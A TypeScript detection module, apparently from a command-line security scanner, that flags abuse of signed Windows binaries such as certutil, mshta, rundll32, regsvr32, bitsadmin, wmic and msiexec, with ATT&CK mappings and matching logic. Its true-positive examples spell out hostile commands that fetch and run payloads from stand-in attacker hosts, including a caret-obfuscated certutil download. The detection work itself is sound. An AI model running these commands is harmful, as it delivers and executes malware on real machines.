import { isUrl, type Cmd, type CommandRule, type Env } from '../model.js';

export const LOLBIN_RULES: CommandRule[] = [
  {
    id: 'commands.lolbin.certutil',
    family: 'lolbin',
    severity: 'high',
    score: 0.85,
    attack: 'T1105',
    description: 'certutil used to download a file (-urlcache/-verifyctl) or decode a payload (-decode)',
    examples: {
      tp: ['certutil -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe', 'c^e^r^t^u^t^i^l.exe -urlcache -f https://evil.example.net/p.txt p.txt', 'certutil -decode payload.b64 payload.exe'],
      fp: ['certutil -hashfile setup.exe SHA256', 'certutil -decode myLoaCfa.base64 myLoaCfa.pdf', 'process.name: "certutil.exe" and process.args: "-urlcache"'],
    },
  },
  {
    id: 'commands.lolbin.mshta',
    family: 'lolbin',
    severity: 'high',
    score: 0.85,
    attack: 'T1218.005',
    description: 'mshta runs a remote HTA or inline script',
    examples: {
      tp: ['mshta http://203.0.113.2/a.hta', 'mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")(window.close)', 'mshta javascript:a=GetObject("script:https://x.example.net/s.sct").Exec();close();'],
      fp: ['mshta.exe is a signed Windows binary that runs HTML applications.', 'where mshta', 'mshta C:\\Program Files\\App\\help.hta'],
    },
  },
  {
    id: 'commands.lolbin.rundll32',
    family: 'lolbin',
    severity: 'high',
    score: 0.85,
    attack: 'T1218.011',
    description: 'rundll32 proxies script, a URL handler or a DLL from a remote/temp location',
    examples: {
      tp: ['rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://203.0.113.5/r.sct")', 'rundll32 url.dll,OpenURL http://evil.example.net/p.hta', 'rundll32 \\\\203.0.113.9\\share\\p.dll,Start'],
      fp: ['rundll32.exe user32.dll,LockWorkStation', 'rundll32 sysdm.cpl,EditEnvironmentVariables', 'rundll32 printui.dll,PrintUIEntry /in /n\\\\printsrv\\floor2'],
    },
  },
  {
    id: 'commands.lolbin.regsvr32',
    family: 'lolbin',
    severity: 'high',
    score: 0.88,
    attack: 'T1218.010',
    description: 'regsvr32 loads a remote scriptlet (scrobj.dll, /i:URL)',
    examples: {
      tp: ['regsvr32 /s /n /u /i:http://203.0.113.4/file.sct scrobj.dll', 'regsvr32.exe /u /n /s /i:https://evil.example.net/x.sct scrobj.dll', 'regsvr32 /s /i:\\\\198.51.100.2\\s\\a.sct scrobj.dll'],
      fp: ['regsvr32 /s mycomponent.dll', 'regsvr32 /u old.dll', 'regsvr32.exe can register COM servers.'],
    },
  },
  {
    id: 'commands.lolbin.bitsadmin',
    family: 'lolbin',
    severity: 'high',
    score: 0.8,
    attack: 'T1197',
    description: 'bitsadmin transfers a file from a URL or sets a job notify command',
    examples: {
      tp: ['bitsadmin /transfer job /download /priority high http://203.0.113.6/a.exe C:\\Temp\\a.exe', 'bitsadmin /addfile j https://evil.example.net/p.dll C:\\p.dll', 'bitsadmin /SetNotifyCmdLine j C:\\Temp\\a.exe NULL'],
      fp: ['bitsadmin /list /allusers', 'bitsadmin /info myjob /verbose', 'bitsadmin /reset'],
    },
  },
  {
    id: 'commands.lolbin.wmic',
    family: 'lolbin',
    severity: 'high',
    score: 0.8,
    attack: 'T1047',
    description: 'wmic creates a process (locally or on a remote node) or loads a remote XSL',
    examples: {
      tp: ['wmic process call create "powershell -w hidden -c calc"', 'wmic /node:10.0.0.5 /user:admin process call create "cmd /c whoami"', 'wmic os get /format:"https://203.0.113.8/x.xsl"'],
      fp: ['wmic cpu get name', 'wmic logicaldisk get size,freespace,caption', 'wmic process list brief'],
    },
  },
  {
    id: 'commands.lolbin.msiexec',
    family: 'lolbin',
    severity: 'high',
    score: 0.85,
    attack: 'T1218.007',
    description: 'msiexec installs a package from a URL or loads a DLL (/y, /z)',
    examples: {
      tp: ['msiexec /q /i http://203.0.113.3/p.msi', 'msiexec.exe /quiet /i https://evil.example.net/a.msi', 'msiexec /y C:\\Users\\Public\\p.dll'],
      fp: ['msiexec /i setup.msi /qn', 'msiexec /x {12345678-1234-1234-1234-123456789012} /qn', 'msiexec /i "C:\\Downloads\\app.msi" /l*v install.log'],
    },
  },
  {
    id: 'commands.lolbin.installutil',
    family: 'lolbin',
    severity: 'high',
    score: 0.8,
    attack: 'T1218.004',
    description: 'InstallUtil runs an assembly\'s uninstaller silently (/logfile= /U)',
    examples: {
      tp: ['InstallUtil.exe /logfile= /LogToConsole=false /U C:\\Users\\Public\\p.dll', 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /U /logfile= p.exe', 'installutil /LogToConsole=false /u payload.exe'],
      fp: ['installutil MyService.exe', 'installutil /u MyService.exe', 'InstallUtil.exe /? '],
    },
  },
  {
    id: 'commands.lolbin.misc-proxy',
    family: 'lolbin',
    severity: 'high',
    score: 0.8,
    attack: 'T1218',
    description: 'Signed binary proxy execution (cmstp, odbcconf, hh, mavinject)',
    examples: {
      tp: ['cmstp.exe /ni /s C:\\Users\\Public\\p.inf', 'odbcconf /a {REGSVR C:\\Users\\Public\\p.dll}', 'hh.exe http://203.0.113.1/p.chm'],
      fp: ['hh.exe C:\\Windows\\Help\\mmc.chm', 'odbcconf /?', 'cmstp /?'],
    },
  },
];

const TEMPISH = /\\appdata\\|\\temp\\|%temp%|\$env:temp|\\users\\public\\|\\programdata\\|^\\\\[^\\]{1,64}\\/;
const RUNNABLE = /\.(?:exe|dll|ps1|psm1|bat|cmd|vbs|vbe|js|jse|hta|scr|msi|sct|wsf|lnk|cpl)$/;
const RUNDLL_ABUSE = /javascript:|vbscript:|mshtml,runhtmlapplication|url\.dll,(?:openurl|fileprotocolhandler)|ieframe\.dll,openurl|shdocvw\.dll,openurl|zipfldr\.dll,routethecall|pcwutl\.dll,launchapplication|advpack\.dll,(?:launchinfsection|registerocx)|setupapi\.dll,installhinfsection|shell32\.dll,shellexec_rundll/;

function remote(a: string): boolean {
  return isUrl(a) || a.startsWith('\\\\') || a.includes('://');
}

function certutil(c: Cmd, env: Env): void {
  const l = c.lower;
  if (l.some((a) => a === '-urlcache' || a === '/urlcache' || a === '-verifyctl' || a === '/verifyctl') && c.win.some(remote)) {
    env.report('commands.lolbin.certutil', c, 'certutil downloads a file from a URL', obfuscation(c));
  } else if (l.some((a) => a === '-decode' || a === '/decode' || a === '-decodehex' || a === '/decodehex')) {
    // Decoding documents and data is routine; decoding into a program or script is not.
    const out = c.win.filter((a) => !a.startsWith('-') && !a.startsWith('/')).at(-1) ?? '';
    if (RUNNABLE.test(out)) env.report('commands.lolbin.certutil', c, 'certutil decodes an encoded file into a program or script', { attack: 'T1140', severity: 'medium', score: 0.65 });
  }
}

function obfuscation(c: Cmd): { steps?: { step: 'context'; delta: number; reason: string }[] } {
  return c.obfuscated ? { steps: [{ step: 'context', delta: 0.08, reason: 'obfuscated command name (carets or quotes) (+0.08)' }] } : {};
}

const LOLBINS = new Set(['certutil', 'mshta', 'rundll32', 'regsvr32', 'bitsadmin', 'wmic', 'msiexec', 'installutil', 'cmstp', 'odbcconf', 'hh', 'mavinject']);

function lolbins(c: Cmd, env: Env): void {
  if (!LOLBINS.has(c.name)) return;
  const l = c.lower;
  const w = c.win;
  switch (c.name) {
    case 'certutil':
      return certutil(c, env);
    case 'mshta': {
      const a = w.find((x) => remote(x) || x.startsWith('vbscript:') || x.startsWith('javascript:') || x.startsWith('about:'));
      if (a) env.report('commands.lolbin.mshta', c, `mshta runs ${remote(a) ? 'a remote HTA' : 'inline script'}`, obfuscation(c));
      return;
    }
    case 'rundll32': {
      const first = w[0] ?? '';
      if (w.some((x) => RUNDLL_ABUSE.test(x)) || w.join(' ').includes('javascript:')) env.report('commands.lolbin.rundll32', c, 'rundll32 proxies script or a URL handler', obfuscation(c));
      else if (remote(first) || TEMPISH.test(first)) env.report('commands.lolbin.rundll32', c, 'rundll32 loads a DLL from a remote share or a temp/user location', obfuscation(c));
      return;
    }
    case 'regsvr32': {
      const i = w.find((x) => x.startsWith('/i:') || x.startsWith('-i:'));
      if ((i && remote(i.slice(3))) || (w.includes('scrobj.dll') && i)) env.report('commands.lolbin.regsvr32', c, 'regsvr32 loads a scriptlet through scrobj.dll (Squiblydoo)', obfuscation(c));
      else if (w.some((x) => remote(x) && x.endsWith('.dll'))) env.report('commands.lolbin.regsvr32', c, 'regsvr32 registers a DLL from a remote location');
      return;
    }
    case 'bitsadmin':
      if ((l.includes('/transfer') || l.includes('/addfile')) && w.some(remote)) env.report('commands.lolbin.bitsadmin', c, 'bitsadmin downloads a file from a URL', { steps: [] });
      else if (l.includes('/setnotifycmdline')) env.report('commands.lolbin.bitsadmin', c, 'bitsadmin runs a command when a job completes');
      return;
    case 'wmic':
      if (l.includes('process') && l.includes('call') && l.includes('create')) {
        const node = l.find((a) => a.startsWith('/node:'));
        env.report('commands.lolbin.wmic', c, `wmic process call create${node ? ' on a remote node' : ''}`, node ? { attack: 'T1047' } : {});
      } else if (l.some((a) => a.startsWith('/format:') && (remote(a.slice(8)) || a.slice(8).includes('://')))) {
        env.report('commands.lolbin.wmic', c, 'wmic loads a remote XSL stylesheet', { attack: 'T1220' });
      }
      return;
    case 'msiexec':
      if (w.some(remote)) env.report('commands.lolbin.msiexec', c, 'msiexec installs a package straight from a URL');
      else if (l.some((a) => a === '/y' || a === '/z' || a === '-y' || a === '-z')) env.report('commands.lolbin.msiexec', c, 'msiexec /y or /z loads a DLL');
      return;
    case 'installutil':
      if (l.some((a) => a === '/u' || a === '-u' || a === '/uninstall') && l.some((a) => a === '/logfile=' || a === '/logtoconsole=false')) env.report('commands.lolbin.installutil', c, 'InstallUtil /U with logging suppressed');
      return;
    case 'cmstp':
      if (l.includes('/s') && w.some((x) => x.endsWith('.inf'))) env.report('commands.lolbin.misc-proxy', c, 'cmstp installs an INF profile silently', { attack: 'T1218.003' });
      return;
    case 'odbcconf':
      if (l.some((a) => a.includes('regsvr')) || l.includes('-f') || l.includes('/f')) env.report('commands.lolbin.misc-proxy', c, 'odbcconf registers a DLL', { attack: 'T1218.008' });
      return;
    case 'hh':
      if (w.some(remote)) env.report('commands.lolbin.misc-proxy', c, 'hh opens a remote compiled help file', { attack: 'T1218.001' });
      return;
    case 'mavinject':
      if (l.includes('/injectrunning')) env.report('commands.lolbin.misc-proxy', c, 'mavinject injects a DLL into a running process', { attack: 'T1218.013' });
      return;
    default:
  }
}

export function lolbinCommand(c: Cmd, env: Env): void {
  lolbins(c, env);
}

/** Every regex this module ships (checked for ReDoS by the tests). */
export const LOLBIN_PATTERNS: readonly RegExp[] = [TEMPISH, RUNNABLE, RUNDLL_ABUSE];
